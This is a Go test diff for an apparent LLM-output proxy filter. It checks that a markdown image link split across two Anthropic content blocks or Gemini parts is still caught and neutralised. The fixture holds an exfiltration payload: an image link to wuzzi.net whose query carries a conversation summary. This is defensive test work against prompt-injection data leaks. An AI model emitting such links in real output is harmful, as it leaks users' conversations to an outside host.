@@ -64,3 +64,50 @@ func TestURLBypassClassesWasm(t *testing.T) {
 		})
 	}
 }
+
+// TestLinkSplitAcrossBlocksWasm: a link whose halves come in two Anthropic text blocks, two Gemini parts or two
+// Responses output_text parts renders as one link; it is judged on the join.
+func TestLinkSplitAcrossBlocksWasm(t *testing.T) {
+	const a, b = "Summary done. ![chart](https://wuzzi.net/logo.svg?q=%22conversation", "+summary+of+the+chat%22) Bye."
+	anthropic := func() string {
+		var s strings.Builder
+		s.WriteString(sseEvent("message_start", map[string]any{"type": "message_start", "message": map[string]any{"id": "msg_1", "type": "message",
+			"role": "assistant", "content": []any{}, "model": "claude-sonnet-4", "usage": map[string]any{"input_tokens": 10, "output_tokens": 1}}}))
+		for i, part := range []string{a, b} {
+			s.WriteString(sseEvent("content_block_start", map[string]any{"type": "content_block_start", "index": i, "content_block": map[string]any{"type": "text", "text": ""}}))
+			s.WriteString(sseEvent("content_block_delta", map[string]any{"type": "content_block_delta", "index": i, "delta": map[string]any{"type": "text_delta", "text": part}}))
+			s.WriteString(sseEvent("content_block_stop", map[string]any{"type": "content_block_stop", "index": i}))
+		}
+		s.WriteString(sseEvent("message_delta", map[string]any{"type": "message_delta", "delta": map[string]any{"stop_reason": "end_turn"}, "usage": map[string]any{"output_tokens": 9}}))
+		s.WriteString(sseEvent("message_stop", map[string]any{"type": "message_stop"}))
+		return s.String()
+	}
+	gemini := func() string {
+		c := map[string]any{"content": map[string]any{"parts": []any{map[string]any{"text": a}, map[string]any{"text": b}}, "role": "model"}, "index": 0, "finishReason": "STOP"}
+		return sseData(map[string]any{"candidates": []any{c}})
+	}
+	for _, c := range streamCases {
+		var stream string
+		switch c.name {
+		case "anthropic":
+			stream = anthropic()
+		case "gemini":
+			stream = gemini()
+		default:
+			continue
+		}
+		t.Run(c.name, func(t *testing.T) {
+			h := host(t, hostsim.ProfileEnvoy, `{}`)
+			res := h.Do(streamRequest(c, "You are a helpful assistant."), hostsim.Response{Status: 200,
+				Headers: [][2]string{{"content-type", "text/event-stream"}}, Chunks: chunkBytes(stream, 37)})
+			checkHealthy(t, res)
+			got, _, _ := clientStream(t, c.format, res.Body)
+			if strings.Contains(got, "wuzzi.net") || !strings.Contains(got, placeholder) {
+				t.Fatalf("link split across blocks not neutralised:\n%s", got)
+			}
+			if d := oneDecision(t, res); d.Reason != "output_exfiltration_link" {
+				t.Fatalf("decision %+v", d)
+			}
+		})
+	}
+}
